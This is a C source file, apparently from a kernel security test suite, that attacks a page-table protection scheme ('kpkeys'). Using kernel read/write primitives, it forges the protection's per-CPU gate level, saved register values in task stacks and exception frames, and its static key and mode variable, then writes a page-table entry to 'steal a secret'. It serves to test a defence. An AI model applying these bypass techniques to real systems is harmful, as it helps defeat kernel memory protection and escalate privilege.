// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on what the protection itself remembers: whether its gate is open,
 * what an interrupted or sleeping task had in its register, whether it is on
 * at all. Each then writes a page-table entry and wins if that lands. Without
 * protection there is nothing to forge, and the entry lands anyway.
 */
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "cpus.h"
#include "list.h"

#define LEVEL_RAISED	1UL	/* first word of kpkeys_cpu: level 1, nothing else */
#define MODE_AUDIT	1	/* first word of kpkeys_state */
#define BUSY_SIZE	(16UL << 20)
#define BUSY_ROUNDS	40

#define FORMS		2	/* in which the register may be saved */

/* A word that says that the gate is shut, and the one that says open. */
struct saved {
	uint64_t shut;		/* 0 is none */
	uint64_t open;
};

/* The register at this, shut, moment; nothing without protection. */
static void register_values(struct saved *saved)
{
	int err = corrupt_command("register"), i;

	for (i = 0; i < FORMS; i++) {
		saved[i].shut = err ? 0 : corrupt_answer_nth("shut", i);
		saved[i].open = err ? 0 : corrupt_answer_nth("open", i);
	}
}

/* From another CPU, tell this one that its gate is open. */
static int store_after_level_copy(const void *how, uint64_t slot, uint64_t value)
{
	uint64_t state = ksymbol_cpu("kpkeys_cpu", 0), old = 0;
	int other = sysconf(_SC_NPROCESSORS_ONLN) > 1, err;

	stay_on_cpu(other);
	if (state) {
		old = kread64(state);
		kwrite64(state, LEVEL_RAISED);
	}
	stay_on_cpu(0);
	err = plain_store(how, slot, value);
	if (state && kread64(state) == LEVEL_RAISED)
		kwrite64(state, old);
	return err;
}

enum outcome cpu_level_copy(void)
{
	return steal_secret_by(store_after_level_copy, NULL);
}

/* Sections long enough for the timer to interrupt them, so that slots get used. */
static void use_save_slots(void)
{
	char *area = mmap(NULL, BUSY_SIZE, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	int i;

	if (area == MAP_FAILED)
		return;
	for (i = 0; i < BUSY_ROUNDS; i++)
		mprotect(area, BUSY_SIZE, i % 2 ? PROT_READ | PROT_WRITE : PROT_READ);
	munmap(area, BUSY_SIZE);
}

static bool is_stack_address(uint64_t value)
{
	uint64_t vmalloc = vmalloc_base();

	return value > vmalloc && value - vmalloc < 1UL << (address_bits() - 3) && value % PAGE_SIZE;
}

/*
 * A slot is the address of a frame and, next to it, the register's value: say
 * that nothing is denied, and keep what else is in that word.
 */
static void forge_slots_of_cpu(int cpu)
{
	uint64_t state = ksymbol_cpu("kpkeys_cpu", cpu);
	uint64_t words[PAGE_SIZE / sizeof(uint64_t)];
	size_t i;

	if (!state || kread(state, words, sizeof(words)))
		return;
	for (i = 0; i + 1 < table_entries(); i++)
		if (is_stack_address(words[i]))
			kwrite64(state + (i + 1) * 8, (words[i + 1] & ~0xffffffffUL) | REGISTER_OPEN);
}

/* Words that hold the register's shut value become all open. */
static void forge_words(uint64_t from, uint64_t size, const struct saved *saved)
{
	uint64_t word, at;
	int i;

	for (at = from; saved->shut && at < from + size; at += sizeof(word)) {
		if (kread(at, &word, sizeof(word)))
			return;
		for (i = 0; i < FORMS; i++)
			if (saved[i].shut && word == saved[i].shut)
				kwrite64(at, saved[i].open);
	}
}

/* How the thread waits whose saved state is forged. */
struct waiter {
	bool in_section; /* on another CPU, where interrupts save it */
	bool spins;	/* preempted: its stack holds an exception frame */
};

static int start_waiter(const struct waiter *waiter, uint64_t slot, uint64_t value)
{
	unsigned char data[8], *byte = data;
	char hex[17], *digit = hex;
	int cpu = waiter->in_section ? sysconf(_SC_NPROCESSORS_ONLN) - 1 : 0;

	memcpy(data, &value, sizeof(value));
	for (; byte < data + 8; byte++, digit += 2)
		sprintf(digit, "%02x", *byte);
	return corrupt_command("sleep addr=0x%lx data=%s section=%d spin=%d cpu=%d", slot,
			       hex, waiter->in_section, waiter->spins, cpu);
}

/* A thread waits, its saved state is forged, and it goes on to store. */
static int store_from_waiter(const void *how, uint64_t slot, uint64_t value)
{
	const struct waiter *waiter = how;
	struct saved saved[FORMS];
	struct task task;
	int err, cpu;

	register_values(saved);
	stay_on_cpu(0);
	err = start_waiter(waiter, slot, value);
	if (err)
		return err;
	if (!ktask(corrupt_answer("pid"), &task)) {
		forge_words(task.thread, task.task + task.size - task.thread, saved);
		forge_words(task.sp, task.stack + task.stack_size - task.sp, saved);
	}
	for (cpu = 0; waiter->in_section && cpu < sysconf(_SC_NPROCESSORS_ONLN); cpu++)
		forge_slots_of_cpu(cpu);
	return corrupt_command("wake");
}

enum outcome save_slot(void)
{
	use_save_slots();
	return steal_secret_by(store_from_waiter, &(struct waiter) { .in_section = true, .spins = true });
}

enum outcome exception_frame(void)
{
	return steal_secret_by(store_from_waiter, &(struct waiter) { .spins = true });
}

enum outcome sleeping_task(void)
{
	return steal_secret_by(store_from_waiter, &(struct waiter) { 0 });
}

/* Write a variable of the protection, store the entry, put the variable back. */
static int store_after_variable(const char *symbol, int forged, uint64_t slot,
				uint64_t value)
{
	uint64_t addr = ksymbol(symbol);
	int err, old = 0;

	if (addr) {
		kread(addr, &old, sizeof(old));
		kwrite(addr, &forged, sizeof(forged));
	}
	err = kwrite64(slot, value);
	if (addr)
		kwrite(addr, &old, sizeof(old));
	return err;
}

static int store_after_static_key(const void *how, uint64_t slot, uint64_t value)
{
	(void)how;
	return store_after_variable("kpkeys_pgtables_key", 0, slot, value);
}

enum outcome static_key(void)
{
	return steal_secret_by(store_after_static_key, NULL);
}

static int store_after_mode(const void *how, uint64_t slot, uint64_t value)
{
	(void)how;
	return store_after_variable("kpkeys_state", MODE_AUDIT, slot, value);
}

enum outcome mode_variable(void)
{
	return steal_secret_by(store_after_mode, NULL);
}
